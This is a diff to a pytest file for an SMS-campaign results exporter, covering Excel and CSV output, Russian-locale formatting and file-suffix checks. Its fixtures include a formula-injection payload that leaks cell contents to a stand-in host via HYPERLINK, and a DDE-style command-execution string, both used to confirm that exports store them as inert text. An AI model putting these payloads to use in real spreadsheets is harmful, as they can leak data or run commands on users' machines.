@@ -10,6 +10,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from smsc_frames.errors import ValidationError
 from smsc_frames.export import neutralise, summary, to_csv, to_excel
 
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -73,11 +74,11 @@ def test_excel_cells_are_typed_and_formatted(tmp_path, results):
     assert name_width > sheet.column_dimensions["A"].width
 
 
-def test_excel_formulas_come_out_inert(tmp_path, results):
+def test_excel_formulas_come_out_inert_as_string_cells_with_their_exact_text(tmp_path, results):
     path = to_excel(results, tmp_path / "results.xlsx")
     sheet = openpyxl.load_workbook(path)["results"]
     names = [row[0] for row in sheet.iter_rows(min_row=2, min_col=3, max_col=3, values_only=True)]
-    assert names == ["'" + INJECTION, "Анна", "'+cmd|' /C calc'!A0"]
+    assert names == [INJECTION, "Анна", "+cmd|' /C calc'!A0"]  # no ' where none is needed
     assert all(
         cell.data_type == "s"
         for row in sheet.iter_rows()
@@ -115,10 +116,15 @@ def test_csv_has_bom_typed_values_and_inert_formulas(tmp_path, results):
     assert [row["contact"] for row in rows] == ["10", "11", "14"]
 
 
-def test_csv_semicolon_for_russian_excel(tmp_path, results):
-    path = to_csv(results, tmp_path / "results.csv", sep=";", index=False)
-    header = path.read_text(encoding="utf-8-sig").splitlines()[0]
-    assert header.split(";") == list(results.columns)
+def test_csv_for_russian_excel_semicolons_decimal_commas_zoned_dates(tmp_path, results):
+    path = to_csv(results, tmp_path / "results.csv", sep=";", decimal=",", index=False)
+    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    zoned = ["sent_at (Europe/Moscow)" if name == "sent_at" else name for name in results]
+    assert lines[0].split(";") == zoned
+    rows = list(csv.DictReader(lines, delimiter=";"))
+    assert [row["cost"] for row in rows] == ["3,80", "7,10", ""]
+    assert rows[0]["sent_at (Europe/Moscow)"] == "2024-03-15 09:00:01"
+    assert rows[2]["sent_at (Europe/Moscow)"] == "" and rows[2]["mccmnc"] == ""
 
 
 def test_exports_leave_the_results_untouched(tmp_path, results):
@@ -138,3 +144,20 @@ def test_summary_adds_the_quote_totals(tmp_path, results):
     assert rows["quoted recipients"].value == 3
     assert rows["quoted SMS"].value == 5
     assert (rows["quoted cost"].value, rows["quoted cost"].number_format) == (11.2, "0.00")
+
+
+def test_excel_refuses_another_suffix_and_names_the_first_sheet(tmp_path, results):
+    with pytest.raises(ValidationError, match=r"\.xlsx"):
+        to_excel(results, tmp_path / "results.xls")
+    assert not (tmp_path / "results.xls").exists()
+    path = to_excel(results, tmp_path / "quote.xlsx", sheet_name="quote")
+    assert openpyxl.load_workbook(path).sheetnames == ["quote", "summary"]
+
+
+def test_excel_missing_values_are_empty_cells_and_progress_counts_rows(tmp_path):
+    frame = pd.DataFrame({"operator": ["MTS", None, float("nan")], "n": [1, 2, 3]})
+    counted = []
+    path = to_excel(frame, tmp_path / "q.xlsx", progress=counted.append)
+    sheet = openpyxl.load_workbook(path)["results"]
+    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["MTS", None, None]
+    assert sum(counted) == 3
